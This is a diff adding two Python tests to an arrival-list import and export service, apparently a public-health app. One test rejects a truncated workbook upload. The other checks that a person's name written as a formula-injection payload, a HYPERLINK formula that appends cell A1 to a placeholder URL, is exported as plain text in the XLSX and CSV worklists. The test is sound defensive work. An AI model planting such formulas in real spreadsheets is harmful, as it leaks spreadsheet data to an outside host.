@@ -309,6 +309,8 @@ def test_an_arrival_list_is_imported_whole_or_not_at_all(client, tokens):
     assert len(cases) == 1  # nothing of the bad list was kept
     not_excel = client.post(path, content=b"name,phone\n", headers=headers)
     assert not_excel.status_code == 422 and "Excel" in not_excel.text
+    damaged = good[: len(good) // 2]  # a workbook cut off in the middle
+    assert client.post(path, content=damaged, headers=headers).status_code == 422
     assert (
         client.post(
             path, content=good, headers={**bearer(tokens["cdc"]), "Content-Type": XLSX}
@@ -334,3 +336,13 @@ def test_an_arrival_declared_in_the_health_kit_without_a_report_is_chased(client
         headers=bearer(citizen),
     )
     assert _worklist(client, worker, "2021-08-07").json()["items"] == []
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_in_the_exports(client, tokens):
+    worker = tokens["community_worker"]
+    report(client, worker, name='=HYPERLINK("http://x/?"&A1,"张三")')
+    xlsx = _worklist(client, worker, "2021-08-17", format="xlsx")
+    cell = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]["C3"]
+    assert cell.data_type == "s" and cell.value.startswith("'=HYPERLINK")
+    text = _worklist(client, worker, "2021-08-17", format="csv").text
+    assert '"\'=HYPERLINK' in text
